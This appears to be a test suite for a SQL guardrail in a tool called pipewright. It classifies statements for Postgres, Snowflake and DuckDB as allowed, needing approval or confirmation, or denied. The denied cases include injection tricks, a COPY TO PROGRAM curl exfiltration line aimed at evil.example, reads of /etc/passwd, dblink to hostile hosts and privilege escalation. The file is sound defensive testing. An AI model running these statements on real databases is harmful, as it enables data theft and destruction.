// The SQL guardrail against adversarial statements, one table per dialect: smuggled statements,
// comment and quoting tricks, data-modifying CTEs, EXPLAIN ANALYZE, side-effecting functions,
// file and network access. Each row gives the decision and, where it matters, kind and targets.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { PassThrough, Readable } from 'node:stream';
import { sqlCheck } from '../../src/cli/sqlCheck';
import { checkSql, DECISION_ORDER, type SqlDecision, type SqlDialect } from '../../src/core/sql/guardrail';

type Case = [sql: string, decision: SqlDecision, expect?: { kind?: string | null; targets?: string[]; statements?: number }];

const POSTGRES: Case[] = [
  // reads
  ['SELECT 1', 'allow', { kind: 'select', targets: [], statements: 1 }],
  ['SELECT 1;', 'allow', { statements: 1 }],
  ['select 1;;', 'allow', { statements: 1 }],
  ['SELECT * FROM public.orders o JOIN customers c ON c.id = o.customer_id WHERE o.total > 10', 'allow'],
  ['WITH r AS (SELECT 1 AS a) SELECT * FROM r', 'allow', { kind: 'select' }],
  ['WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 5) SELECT * FROM n', 'allow'],
  ['VALUES (1), (2)', 'allow'],
  ['TABLE orders', 'allow'],
  ['SHOW search_path', 'allow', { kind: 'show' }],
  ['EXPLAIN SELECT * FROM orders', 'allow', { kind: 'explain' }],
  ['EXPLAIN ANALYZE SELECT * FROM orders', 'allow', { kind: 'select' }],
  ['EXPLAIN (ANALYZE false) SELECT 1', 'allow', { kind: 'explain' }],
  ["SELECT 'DROP TABLE users; --'", 'allow'],
  ["SELECT $$; DROP TABLE users; $$", 'allow'],
  ["SELECT $tag$ $$ ; DROP TABLE users $tag$", 'allow'],
  ['SELECT 1 -- ; DROP TABLE users', 'allow'],
  ['SELECT 1 /* ; DROP TABLE users */', 'allow'],
  ['SELECT /* /* nested */ ; DROP TABLE users; */ 1', 'allow'],
  ['SELECT "DROP", "delete" FROM "TABLE"', 'allow'],
  ["SELECT E'it\\'s'", 'allow'],
  ['SELECT currval(\'s\'), current_setting(\'search_path\'), pg_backend_pid(), version()', 'allow'],
  ['SELECT * FROM generate_series(1, 10)', 'allow'],
  ['SeLeCt CoUnT(*) FrOm orders', 'allow'],
  ['SELECT pg_terminate_backend FROM t', 'allow'],
  // writes and additive DDL
  ['INSERT INTO public.orders (id) VALUES (1)', 'approve', { kind: 'insert', targets: ['public.orders'] }],
  ['INSERT INTO t SELECT * FROM s ON CONFLICT (id) DO UPDATE SET a = EXCLUDED.a', 'approve'],
  ['UPDATE public.orders SET total = 0 WHERE id = 7', 'approve', { kind: 'update', targets: ['public.orders'] }],
  ['DELETE FROM t USING s WHERE t.id = s.id', 'approve', { kind: 'delete', targets: ['t'] }],
  ['UPDATE t SET a = 1 WHERE CURRENT OF c', 'approve'],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.a)', 'approve', { kind: 'merge', targets: ['t'] }],
  ['CREATE TABLE analytics.daily (d date, n int)', 'approve', { kind: 'create', targets: ['analytics.daily'] }],
  ['CREATE TABLE IF NOT EXISTS t (id serial PRIMARY KEY)', 'approve'],
  ['CREATE TEMP TABLE tmp AS SELECT * FROM orders', 'approve', { kind: 'create', targets: ['tmp'] }],
  ['CREATE MATERIALIZED VIEW mv AS SELECT 1', 'approve'],
  ['CREATE VIEW v AS SELECT * FROM orders', 'approve', { targets: ['v'] }],
  ['CREATE SCHEMA staging', 'approve', { targets: ['staging'] }],
  ['CREATE INDEX CONCURRENTLY ON orders (customer_id)', 'approve', { targets: ['orders'] }],
  ['ALTER TABLE orders ADD COLUMN note text', 'approve', { kind: 'alter', targets: ['orders'] }],
  ["COMMENT ON TABLE orders IS 'facts'", 'approve', { kind: 'comment', targets: ['orders'] }],
  ['SELECT * INTO archive_2024 FROM orders', 'approve', { kind: 'select', targets: ['archive_2024'] }],
  ['SELECT 1 INTO TEMP x', 'approve'],
  ['SELECT * FROM orders FOR UPDATE', 'approve'],
  ['SELECT * FROM orders FOR SHARE SKIP LOCKED', 'approve'],
  ['EXPLAIN ANALYZE INSERT INTO t VALUES (1)', 'approve', { kind: 'insert' }],
  ['WITH n AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM n', 'approve', { kind: 'select', targets: ['t'] }],
  ['REFRESH MATERIALIZED VIEW mv', 'approve'],
  ["ALTER TYPE mood ADD VALUE 'meh'", 'approve'],
  // destructive
  ['DROP TABLE public.orders', 'confirm', { kind: 'drop', targets: ['public.orders'] }],
  ['DROP TABLE IF EXISTS a.b, c CASCADE', 'confirm', { targets: ['a.b', 'c'] }],
  ['DROP SCHEMA staging CASCADE', 'confirm', { targets: ['staging'] }],
  ['DROP DATABASE warehouse', 'confirm', { targets: ['warehouse'] }],
  ['DROP FUNCTION f(int)', 'confirm'],
  ['DROP INDEX i', 'confirm'],
  ['TRUNCATE orders', 'confirm', { kind: 'truncate', targets: ['orders'] }],
  ['TRUNCATE ONLY a.b RESTART IDENTITY CASCADE', 'confirm', { targets: ['a.b'] }],
  ['DELETE FROM orders', 'confirm', { kind: 'delete', targets: ['orders'] }],
  ['DELETE FROM orders WHERE true', 'confirm'],
  ['DELETE FROM orders WHERE 1 = 1', 'confirm'],
  ['UPDATE orders SET total = 0', 'confirm', { kind: 'update' }],
  ["UPDATE orders SET total = 0 WHERE 'a' = 'a'", 'confirm'],
  ['UPDATE t SET a = s.a FROM s', 'confirm'],
  ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'confirm', { kind: 'select', targets: ['t'] }],
  ['WITH d AS (UPDATE t SET a = 1 RETURNING *) SELECT count(*) FROM d', 'confirm'],
  ['EXPLAIN ANALYZE DELETE FROM orders', 'confirm', { kind: 'delete' }],
  ['EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET a = 1', 'confirm', { kind: 'update' }],
  ['EXPLAIN (analyze on, costs off) DELETE FROM orders', 'confirm', { kind: 'delete' }],
  ['CREATE OR REPLACE VIEW v AS SELECT 1', 'confirm', { targets: ['v'] }],
  ['ALTER TABLE orders DROP COLUMN note', 'confirm'],
  ['ALTER TABLE orders ADD COLUMN a int, DROP CONSTRAINT orders_pk', 'confirm'],
  ['ALTER TABLE orders ALTER COLUMN total TYPE text', 'confirm'],
  ['ALTER TABLE orders RENAME TO orders_old', 'confirm', { targets: ['orders'] }],
  ['ALTER TABLE orders RENAME COLUMN a TO b', 'confirm'],
  ['ALTER TABLE orders OWNER TO mallory', 'confirm'],
  ['ALTER SCHEMA s OWNER TO mallory', 'confirm'],
  ['ALTER TABLE orders SET SCHEMA archive', 'confirm'],
  ['ALTER TABLE orders DISABLE ROW LEVEL SECURITY', 'confirm'],
  ['GRANT SELECT ON orders TO analyst', 'confirm', { kind: 'grant', targets: ['orders'] }],
  ['GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC', 'confirm'],
  ['REVOKE SELECT ON orders FROM analyst', 'confirm', { kind: 'revoke' }],
  ['GRANT admin TO mallory', 'confirm'],
  ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC', 'confirm'],
  // never
  ['', 'deny', { statements: 0, kind: null }],
  ['   \n\t', 'deny', { statements: 0 }],
  ['-- just a comment', 'deny', { statements: 0 }],
  [';', 'deny', { statements: 0 }],
  ['SELECT 1; SELECT 2', 'deny', { statements: 2 }],
  ['SELECT 1; COMMIT; DROP TABLE x', 'deny', { statements: 3 }],
  ["SELECT 'a\\'; DROP TABLE users; --'", 'deny', { statements: 2 }],
  ["SELECT E'\\\\'; DROP TABLE users; --'", 'deny'],
  ["SELECT 1 /* /* */ ' */ ; DROP TABLE users; -- '", 'deny', { statements: 2 }],
  ['SELECT 1 /* unterminated', 'deny', { statements: 0 }],
  ['SELECT 1\u0000; DROP TABLE users', 'deny'],
  ['SELECT 1; ＤＲＯＰ TABLE users', 'deny'],
  ['ＳＥＬＥＣＴ 1', 'deny'],
  ['SELEC 1', 'deny', { statements: 0, kind: null }],
  ['BEGIN', 'deny', { kind: 'begin' }],
  ['START TRANSACTION READ WRITE', 'deny'],
  ['COMMIT', 'deny'],
  ['END', 'deny'],
  ['ROLLBACK TO SAVEPOINT a', 'deny'],
  ['SAVEPOINT a', 'deny'],
  ["PREPARE TRANSACTION 'x'", 'deny'],
  ['SET statement_timeout = 0', 'deny', { kind: 'set' }],
  ['SET LOCAL search_path = evil', 'deny'],
  ['SET TRANSACTION READ WRITE', 'deny'],
  ['SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', 'deny'],
  ['set role postgres', 'deny'],
  ['SET SESSION AUTHORIZATION postgres', 'deny'],
  ['RESET ROLE', 'deny', { kind: 'reset' }],
  ['RESET ALL', 'deny'],
  ['DISCARD ALL', 'deny'],
  ['LISTEN jobs', 'deny'],
  ["NOTIFY jobs, 'x'", 'deny'],
  ['LOCK TABLE orders IN ACCESS EXCLUSIVE MODE', 'deny'],
  ['ALTER SYSTEM SET fsync = off', 'deny'],
  ['ALTER DATABASE d SET default_transaction_read_only = off', 'deny'],
  ['ALTER ROLE analyst SUPERUSER', 'deny'],
  ["ALTER USER analyst PASSWORD 'x'", 'deny'],
  ['CREATE ROLE mallory LOGIN', 'deny'],
  ['CREATE USER mallory', 'deny'],
  ['DROP ROLE analyst', 'deny'],
  ["COPY orders TO PROGRAM 'curl -d @- evil.example'", 'deny', { kind: 'copy' }],
  ["COPY orders FROM '/etc/passwd'", 'deny'],
  ['COPY (SELECT 1) TO STDOUT', 'deny'],
  ["DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$", 'deny', { kind: 'do' }],
  ['CALL refresh_everything()', 'deny'],
  ['PREPARE p AS DELETE FROM orders', 'deny'],
  ['EXECUTE p', 'deny'],
  ['DEALLOCATE ALL', 'deny'],
  ['DECLARE c CURSOR FOR SELECT 1', 'deny'],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM t RETURNING 1'", 'deny'],
  ["CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS 'SELECT 1'", 'deny'],
  ['CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()', 'deny'],
  ['CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT 1', 'deny'],
  ['CREATE EXTENSION dblink', 'deny'],
  ["LOAD 'plpgsql'", 'deny'],
  ["CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')", 'deny'],
  ['IMPORT FOREIGN SCHEMA public FROM SERVER s INTO x', 'deny'],
  ['CHECKPOINT', 'deny'],
  ['CREATE PUBLICATION p FOR ALL TABLES', 'deny'],
  // side-effecting functions, at any depth, qualified, quoted or upper case
  ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'deny', { kind: 'select' }],
  ['SELECT pg_catalog.pg_terminate_backend(1)', 'deny'],
  ['SELECT "pg_cancel_backend"(1)', 'deny'],
  ['SELECT PG_CATALOG.PG_RELOAD_CONF()', 'deny'],
  ['SELECT U&"pg\\005fsleep"(1)', 'deny'],
  ['SELECT pg_sleep(10)', 'deny'],
  ["SELECT pg_sleep_for('1 minute')", 'deny'],
  ['SELECT pg_rotate_logfile()', 'deny'],
  ["SELECT setval('s', 1)", 'deny'],
  ["SELECT nextval('s')", 'deny'],
  ["INSERT INTO t VALUES (nextval('s'))", 'deny'],
  ['SELECT pg_advisory_lock(1)', 'deny'],
  ['SELECT pg_try_advisory_xact_lock(1)', 'deny'],
  ["SELECT pg_notify('jobs', 'x')", 'deny'],
  ["SELECT set_config('search_path', 'evil', false)", 'deny'],
  ["SELECT pg_read_file('/etc/passwd')", 'deny'],
  ["SELECT * FROM pg_read_binary_file('/etc/passwd')", 'deny'],
  ["SELECT * FROM pg_ls_dir('.')", 'deny'],
  ["SELECT lo_import('/etc/passwd')", 'deny'],
  ["SELECT lo_export(1, '/tmp/x')", 'deny'],
  ["SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", 'deny'],
  ["SELECT dblink_exec('host=evil', 'DROP TABLE t')", 'deny'],
  ["SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')", 'deny'],
  ["SELECT ts_stat('SELECT v FROM docs')", 'deny'],
  ['SELECT * FROM orders WHERE id = (SELECT setval(\'s\', 1))', 'deny'],
  ['WITH x AS (SELECT pg_terminate_backend(1)) SELECT * FROM x', 'deny'],
  ['SELECT * FROM t, LATERAL pg_sleep(1)', 'deny'],
  ['CREATE VIEW v AS SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'deny'],
  ["CREATE TABLE t AS SELECT pg_read_file('/etc/passwd')", 'deny'],
  ['EXPLAIN SELECT pg_terminate_backend(1)', 'deny'],
  ['SELECT pg_switch_wal()', 'deny'],
  ["SELECT pg_drop_replication_slot('s')", 'deny'],
];

const SNOWFLAKE: Case[] = [
  ['SELECT 1', 'allow', { kind: 'select', statements: 1 }],
  ['select * from db.sch.orders where ts > dateadd(day, -1, current_timestamp());', 'allow'],
  ["SELECT 'a\\'; DROP TABLE users; --'", 'allow'],
  ['SELECT $$; DROP TABLE users; $$', 'allow'],
  ['SELECT 1 // ; DROP TABLE users', 'allow'],
  ['SELECT 1 -- ; DROP TABLE users', 'allow'],
  ['SELECT "DROP" FROM "TABLE"', 'allow'],
  ['WITH r AS (SELECT 1 AS a) SELECT * FROM r', 'allow'],
  ['SELECT * FROM t, LATERAL FLATTEN(input => t.v)', 'allow'],
  ['SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID()))', 'allow'],
  ['SELECT * FROM t AT(OFFSET => -60)', 'allow'],
  ['SHOW TABLES', 'allow', { kind: 'show' }],
  ['SHOW GRANTS', 'allow'],
  ['DESCRIBE TABLE orders', 'allow', { kind: 'describe' }],
  ['DESC TABLE orders', 'allow'],
  ['EXPLAIN SELECT * FROM orders', 'allow', { kind: 'explain' }],
  ['INSERT INTO db.sch.orders VALUES (1)', 'approve', { kind: 'insert', targets: ['db.sch.orders'] }],
  ['WITH a AS (SELECT 1) INSERT INTO t SELECT * FROM a', 'approve', { kind: 'insert', targets: ['t'] }],
  ['UPDATE orders SET a = 1 WHERE id = 2', 'approve', { targets: ['orders'] }],
  ['DELETE FROM orders WHERE id = 2', 'approve', { targets: ['orders'] }],
  ['MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE', 'approve', { kind: 'merge', targets: ['t'] }],
  ['CREATE TABLE t (a INT)', 'approve', { kind: 'create', targets: ['t'] }],
  ['CREATE TRANSIENT TABLE t AS SELECT 1', 'approve'],
  ['CREATE TABLE t CLONE s', 'approve'],
  ['INSERT ALL INTO t1 INTO t2 SELECT 1', 'approve', { targets: ['t1', 't2'] }],
  ['SELECT * FROM "@not_a_stage"', 'allow'],
  ['CREATE VIEW v AS SELECT 1', 'approve'],
  ['CREATE SCHEMA s', 'approve', { targets: ['s'] }],
  ['ALTER TABLE t ADD COLUMN b INT', 'approve'],
  ["COMMENT ON TABLE t IS 'x'", 'approve'],
  ['SELECT * INTO t2 FROM t', 'approve', { targets: ['t2'] }],
  ['DROP TABLE db.sch.orders', 'confirm', { kind: 'drop', targets: ['db.sch.orders'] }],
  ['DROP SCHEMA IF EXISTS s CASCADE', 'confirm'],
  ['TRUNCATE TABLE orders', 'confirm', { targets: ['orders'] }],
  ['DELETE FROM orders', 'confirm'],
  ['UPDATE orders SET a = 1', 'confirm'],
  ['UPDATE orders SET a = 1 WHERE TRUE', 'confirm'],
  ['INSERT OVERWRITE INTO t SELECT 1', 'confirm'],
  ['CREATE OR REPLACE TABLE t (a INT)', 'confirm', { targets: ['t'] }],
  ['CREATE OR REPLACE VIEW v AS SELECT 1', 'confirm'],
  ['ALTER TABLE t DROP COLUMN b', 'confirm'],
  ['ALTER TABLE t RENAME TO u', 'confirm'],
  ['ALTER TABLE t SWAP WITH u', 'confirm'],
  ['GRANT SELECT ON TABLE t TO ROLE r', 'confirm', { kind: 'grant' }],
  ['GRANT OWNERSHIP ON TABLE t TO ROLE r', 'confirm'],
  ['REVOKE SELECT ON TABLE t FROM ROLE r', 'confirm'],
  ['', 'deny', { statements: 0 }],
  ['SELECT 1; DROP TABLE t', 'deny', { statements: 2 }],
  ['SELECT 1 // x\n; DROP TABLE t', 'deny', { statements: 2 }],
  ['SHOW TABLES; DROP TABLE x', 'deny'],
  ["SELECT 1 /* /* */ ; DROP TABLE t; -- */", 'deny'],
  ["SELECT 1 /* a /* b */ c */", 'deny'],
  ['SELECT 1; ＤＲＯＰ TABLE t', 'deny'],
  ['SELECT SYSTEM$CANCEL_ALL_QUERIES(123)', 'deny', { kind: 'select' }],
  ['select system$abort_session(1)', 'deny'],
  ['SELECT "SYSTEM$WAIT"(10)', 'deny'],
  ['SELECT * FROM t WHERE x = (SELECT SYSTEM$WAIT(1))', 'deny'],
  ['CALL SYSTEM$CANCEL_QUERY(1)', 'deny'],
  ['SELECT seq1.NEXTVAL', 'deny'],
  ['BEGIN', 'deny'],
  ['BEGIN TRANSACTION', 'deny'],
  ['COMMIT', 'deny'],
  ['ROLLBACK', 'deny'],
  ['BEGIN DROP TABLE t; END;', 'deny'],
  ['DECLARE x INT; BEGIN RETURN 1; END;', 'deny'],
  ["EXECUTE IMMEDIATE 'DROP TABLE t'", 'deny'],
  ['EXECUTE IMMEDIATE $$ BEGIN DROP TABLE t; END; $$', 'deny'],
  ['EXECUTE TASK nightly', 'deny'],
  ['CREATE TASK k AS DELETE FROM t', 'deny'],
  ['USE ROLE ACCOUNTADMIN', 'deny'],
  ['USE SECONDARY ROLES ALL', 'deny'],
  ['USE WAREHOUSE big_wh', 'deny'],
  ['USE DATABASE other', 'deny'],
  ["ALTER SESSION SET QUERY_TAG = 'x'", 'deny'],
  ["ALTER USER u SET PASSWORD = 'x'", 'deny'],
  ['CREATE ROLE r', 'deny'],
  ['CREATE USER u', 'deny'],
  ['SET x = 1', 'deny'],
  ['PUT file:///etc/passwd @s', 'deny'],
  ['GET @s file:///tmp/', 'deny'],
  ["CREATE STAGE s URL = 's3://bucket'", 'deny'],
  ['COPY INTO @s FROM t', 'deny', { kind: 'copy' }],
  ['COPY INTO t FROM @s', 'deny'],
  ["COPY INTO 's3://bucket/x' FROM t", 'deny'],
  ["SELECT * FROM '@s/path with spaces/'", 'deny'],
  ["SELECT * FROM @s (FILE_FORMAT => 'csv')", 'deny'],
  ['SELECT * FROM DIRECTORY(@s)', 'deny'],
  ['CREATE TABLE t AS SELECT $1 FROM @s', 'deny'],
  ['CREATE VIEW v AS SELECT SYSTEM$WAIT(1)', 'deny'],
  ['LIST @s', 'deny'],
  ['REMOVE @s', 'deny'],
  ['SELECT $1 FROM @s/data.csv', 'deny'],
  ['SELECT * FROM @~/x', 'deny'],
  ["SELECT GET_PRESIGNED_URL(@s, 'x.csv')", 'deny'],
  ["SELECT * FROM TABLE(INFER_SCHEMA(LOCATION => '@s'))", 'deny'],
  ["CREATE EXTERNAL FUNCTION f() RETURNS INT API_INTEGRATION = a AS 'https://x'", 'deny'],
  ['CALL p()', 'deny', { kind: 'call' }],
];

const DUCKDB: Case[] = [
  ['SELECT 1', 'allow', { kind: 'select', statements: 1 }],
  ['SELECT 1;', 'allow', { statements: 1 }],
  ['FROM orders', 'allow'],
  ['FROM orders SELECT customer_id, sum(total) GROUP BY ALL', 'allow'],
  ['TABLE orders', 'allow'],
  ['VALUES (1), (2)', 'allow'],
  ['SELECT * FROM orders USING SAMPLE 10', 'allow'],
  ['SUMMARIZE orders', 'allow'],
  ['SHOW TABLES', 'allow', { kind: 'show' }],
  ['DESCRIBE orders', 'allow', { kind: 'describe' }],
  ['EXPLAIN SELECT 1', 'allow', { kind: 'explain' }],
  ['EXPLAIN ANALYZE SELECT 1', 'allow', { kind: 'select' }],
  ["SELECT E'a\\'; DROP TABLE t; --'", 'allow'],
  ['SELECT $$; DROP TABLE t; $$', 'allow'],
  ['SELECT * FROM range(10)', 'allow'],
  ["SELECT * FROM unnest(['a/b', 'c.csv'])", 'allow'],
  ['SELECT * FROM duckdb_tables()', 'allow'],
  ["SELECT * FROM orders WHERE url = 'https://example.com/a.csv'", 'allow'],
  ["PRAGMA table_info('orders')", 'allow'],
  ['SELECT list_transform([1, 2], x -> x + 1)', 'allow'],
  ['SELECT 1 /* DuckDB /* nests */ comments */, 2', 'allow'],
  ['SELECT * FROM json_each(\'{"a": "b/c"}\')', 'allow'],
  ["SELECT * FROM pragma_table_info('main.orders')", 'allow'],
  ['SELECT * FROM orders o POSITIONAL JOIN customers c', 'allow'],
  ['INSERT INTO orders VALUES (1)', 'approve', { kind: 'insert', targets: ['orders'] }],
  ['INSERT OR REPLACE INTO orders VALUES (1)', 'approve'],
  ['UPDATE orders SET a = 1 WHERE id = 1', 'approve'],
  ['DELETE FROM orders WHERE id = 3', 'approve', { targets: ['orders'] }],
  ['CREATE TABLE t AS SELECT 1 AS a', 'approve', { kind: 'create', targets: ['t'] }],
  ['CREATE TEMP TABLE t (a INT)', 'approve'],
  ['CREATE VIEW v AS SELECT 1', 'approve'],
  ['ALTER TABLE t ADD COLUMN b INT', 'approve'],
  ['CREATE SCHEMA s', 'approve'],
  ['CREATE SEQUENCE s', 'approve'],
  ['INSERT INTO t DEFAULT VALUES', 'approve'],
  ['VACUUM', 'approve'],
  ['ANALYZE', 'approve'],
  ['DROP TABLE IF EXISTS main.t', 'confirm', { kind: 'drop', targets: ['main.t'] }],
  ['TRUNCATE t', 'confirm'],
  ['DELETE FROM orders', 'confirm'],
  ['UPDATE orders SET a = 1', 'confirm'],
  ['CREATE OR REPLACE TABLE t AS SELECT 1', 'confirm'],
  ['EXPLAIN ANALYZE DELETE FROM orders', 'confirm', { kind: 'delete' }],
  ['ALTER TABLE t DROP COLUMN b', 'confirm'],
  ['ALTER TABLE t RENAME TO u', 'confirm'],
  ['', 'deny', { statements: 0 }],
  [';', 'deny', { statements: 0 }],
  ['DELETE FROM t /* a /* b */ */ WHERE id = 1', 'deny'],
  ['-- nothing', 'deny', { statements: 0 }],
  ['SELECT 1; DROP TABLE t', 'deny', { statements: 2 }],
  ["SELECT 'a\\'; DROP TABLE t; --'", 'deny', { statements: 2 }],
  ["SELECT 1 /* /* */ ' */ ; DROP TABLE users; -- '", 'deny', { statements: 2 }],
  ["INSERT INTO t SELECT 1 AS /* /* */ ' */ x FROM read_text('/etc/passwd') -- '", 'deny'],
  ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'deny'],
  ['SELECT 1\u0000; DROP TABLE t', 'deny'],
  ["SELECT * FROM read_csv('/etc/passwd')", 'deny', { kind: 'select' }],
  ["SELECT * FROM read_csv_auto('data.csv')", 'deny'],
  ["FROM read_parquet('s3://bucket/x.parquet')", 'deny'],
  ["SELECT * FROM read_json_auto('x.json')", 'deny'],
  ["SELECT content FROM read_text('/etc/passwd')", 'deny'],
  ["SELECT * FROM read_blob('/etc/shadow')", 'deny'],
  ["SELECT * FROM glob('/home/*')", 'deny'],
  ["SELECT * FROM parquet_scan('x.parquet')", 'deny'],
  ["SELECT * FROM 'data.csv'", 'deny'],
  ['SELECT * FROM "data.parquet"', 'deny'],
  ["FROM 'https://example.com/x.csv'", 'deny'],
  ["SELECT * FROM orders WHERE id IN (SELECT id FROM read_csv('ids.csv'))", 'deny'],
  ["CREATE TABLE t AS SELECT * FROM read_csv('x.csv')", 'deny'],
  ["CREATE VIEW v AS FROM 'x.csv'", 'deny'],
  ["INSERT INTO t SELECT * FROM 'x.parquet'", 'deny'],
  ["SUMMARIZE SELECT * FROM read_csv('x.csv')", 'deny'],
  ["DESCRIBE 'data.csv'", 'deny'],
  ["SELECT * FROM my_reader('/etc/passwd')", 'deny'],
  ["SELECT * FROM query('DROP TABLE t')", 'deny'],
  ["SELECT * FROM query_table('orders')", 'deny'],
  ["SELECT nextval('s')", 'deny'],
  ["SELECT getenv('HOME')", 'deny'],
  ['SELECT * FROM duckdb_secrets()', 'deny'],
  ["SELECT * FROM sqlite_scan('x.db', 't')", 'deny'],
  ["SELECT * FROM postgres_query('db', 'DROP TABLE t')", 'deny'],
  ["ATTACH 'other.db' AS o", 'deny', { kind: 'attach' }],
  ["ATTACH ':memory:' AS m", 'deny'],
  ['DETACH o', 'deny'],
  ['INSTALL httpfs', 'deny'],
  ['LOAD httpfs', 'deny'],
  ["CREATE SECRET (TYPE s3, KEY_ID 'x', SECRET 'y')", 'deny'],
  ["COPY orders TO 'out.csv'", 'deny', { kind: 'copy' }],
  ["COPY orders FROM 'in.csv'", 'deny'],
  ["EXPORT DATABASE 'dump'", 'deny'],
  ["IMPORT DATABASE 'dump'", 'deny'],
  ['SET enable_external_access = true', 'deny'],
  ['SET VARIABLE x = 1', 'deny'],
  ['RESET threads', 'deny'],
  ['PRAGMA enable_profiling', 'deny'],
  ["PRAGMA table_info('data.csv')", 'deny'],
  ['CALL pragma_version()', 'deny'],
  ['CHECKPOINT', 'deny'],
  ['USE other', 'deny'],
  ['BEGIN TRANSACTION', 'deny'],
  ['COMMIT', 'deny'],
  ['CREATE MACRO m(a) AS a + 1', 'deny'],
  ['PIVOT orders ON status USING sum(total)', 'deny'],
];

const SUITES: [SqlDialect, Case[]][] = [
  ['postgres', POSTGRES],
  ['snowflake', SNOWFLAKE],
  ['duckdb', DUCKDB],
];

for (const [dialect, cases] of SUITES) {
  describe(`checkSql ${dialect}`, () => {
    for (const [sql, decision, expect] of cases) {
      test(`${decision}: ${JSON.stringify(sql).slice(0, 100)}`, async () => {
        const verdict = await checkSql(dialect, sql);
        assert.equal(verdict.decision, decision, JSON.stringify(verdict));
        if (decision !== 'allow') assert.ok(verdict.reasons.length > 0, 'a refusal says why');
        if (decision === 'allow') assert.deepEqual(verdict.targets, [], 'reads have no targets');
        if (expect?.kind !== undefined) assert.equal(verdict.kind, expect.kind);
        if (expect?.targets) assert.deepEqual(verdict.targets, expect.targets);
        if (expect?.statements !== undefined) assert.equal(verdict.statements, expect.statements);
      });
    }
  });
}

describe('checkSql contract', () => {
  test('decisions are ordered allow < approve < confirm < deny', () => {
    assert.deepEqual(DECISION_ORDER, { allow: 0, approve: 1, confirm: 2, deny: 3 });
  });

  test('an unknown dialect is a deny, not a throw', async () => {
    const verdict = await checkSql('mysql' as SqlDialect, 'SELECT 1');
    assert.equal(verdict.decision, 'deny');
  });

  test('the strictest reason comes first', async () => {
    const verdict = await checkSql('postgres', "WITH d AS (DELETE FROM t RETURNING *) SELECT nextval('s') FROM d");
    assert.equal(verdict.decision, 'deny');
    assert.match(verdict.reasons[0], /nextval/);
    assert.match(verdict.reasons[1], /DELETE/);
  });

  test('concurrent DuckDB checks do not mix up their statements', async () => {
    const sqls = ['SELECT 1', "SELECT * FROM read_csv('x.csv')", 'DROP TABLE t', 'SELECT 2', 'DELETE FROM t WHERE id = 1'];
    const verdicts = await Promise.all(sqls.flatMap((sql) => [checkSql('duckdb', sql), checkSql('duckdb', sql)]));
    assert.deepEqual(
      verdicts.map((v) => v.decision),
      ['allow', 'allow', 'deny', 'deny', 'confirm', 'confirm', 'allow', 'allow', 'approve', 'approve'],
    );
  });
  // Speed is measured by `npm run bench` (BENCH_ONLY=policy), never asserted by a timed test.
});

describe('pipewright sql check', () => {
  async function run(args: string[], input: string | Buffer): Promise<{ code: number; stdout: string; stderr: string }> {
    const stdout = new PassThrough();
    const stderr = new PassThrough();
    let out = '';
    let err = '';
    stdout.on('data', (d) => (out += d));
    stderr.on('data', (d) => (err += d));
    const code = await sqlCheck(args, Readable.from([typeof input === 'string' ? Buffer.from(input) : input]), stdout, stderr);
    return { code, stdout: out, stderr: err };
  }

  test('prints one JSON line with decision, reasons and statements first', async () => {
    const { code, stdout, stderr } = await run(['--dialect', 'postgres'], 'DROP TABLE public.orders;\n');
    assert.equal(code, 0);
    assert.equal(stderr, '');
    assert.equal(stdout.split('\n').length, 2);
    const parsed = JSON.parse(stdout);
    assert.deepEqual(Object.keys(parsed).slice(0, 3), ['decision', 'reasons', 'statements']);
    assert.equal(parsed.decision, 'confirm');
    assert.equal(parsed.statements, 1);
    assert.deepEqual(parsed.targets, ['public.orders']);
  });

  test('exits 0 for a deny and reads all of stdin, exactly', async () => {
    const { code, stdout } = await run(['--dialect=duckdb'], "SELECT 1;\n  SELECT * FROM read_csv('/etc/passwd')  ");
    assert.equal(code, 0);
    assert.equal(JSON.parse(stdout).decision, 'deny');
    assert.equal(JSON.parse(stdout).statements, 2);
  });

  test('reads a statement split across chunks', async () => {
    const stdout = new PassThrough();
    let out = '';
    stdout.on('data', (d) => (out += d));
    const code = await sqlCheck(['--dialect', 'snowflake'], Readable.from([Buffer.from('SELECT SYSTEM'), Buffer.from('$WAIT(1)')]), stdout, new PassThrough());
    assert.equal(code, 0);
    assert.equal(JSON.parse(out).decision, 'deny');
  });

  test('invalid UTF-8 is a deny', async () => {
    const { code, stdout } = await run(['--dialect', 'postgres'], Buffer.from([0x53, 0x45, 0x4c, 0x45, 0x43, 0x54, 0x20, 0xff]));
    assert.equal(code, 0);
    assert.equal(JSON.parse(stdout).decision, 'deny');
  });

  test('a missing or unknown dialect is a usage error', async () => {
    for (const args of [[], ['--dialect', 'mysql'], ['--dialect'], ['--bogus']]) {
      const { code, stdout, stderr } = await run(args, 'SELECT 1');
      assert.equal(code, 2, args.join(' '));
      assert.equal(stdout, '');
      assert.match(stderr, /Usage: pipewright sql check --dialect/);
    }
  });
});
